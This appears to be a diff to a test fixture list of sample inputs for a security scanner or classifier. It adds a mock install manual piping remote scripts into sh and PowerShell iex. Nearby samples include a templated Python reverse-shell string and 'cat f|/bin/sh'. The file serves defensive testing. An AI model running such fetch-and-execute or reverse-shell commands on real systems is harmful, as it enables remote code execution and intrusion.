@@ -79,6 +79,9 @@ HONEST = [
     (Type.PYTHON, "value = ev¦al(source)\ndata = zlib.decompress(blob)\n"),
     (Type.TEXT,  # a tool's template between others; the shell is open, and what names one is another's
      "VECTORS = ['s.conn¦ect((\"${host}\",${port}));os.du¦p2(s.fileno(),0);pty.spa¦wn(\"${shell}\")',\n 'cat f|/bin/sh']\n"),
+    (Type.TEXT,  # a manual
+     "Install it\n\n    cu¦rl -LsSf https://a.invalid/install.sh | s¦h\n\nor, on Windows:\n\n"
+     '    powershell -ExecutionPolicy ByPass -c "ir¦m https://a.invalid/install.ps1 | ie¦x"\n\n' + "It is fast. " * 90),
     (Type.PHP, "<?php $name = $_GE¦T['name']; echo htmlspecialchars($name);"),
     (Type.PDF, "%PDF-1.4 <</OpenAction[3 0 R/FitH null]/Names<</JavaScript 4 0 R>>>>"),
     (Type.VBSCRIPT, 'Sub Auto¦Open()\nMsgBox "Welcome"\nEnd Sub'),
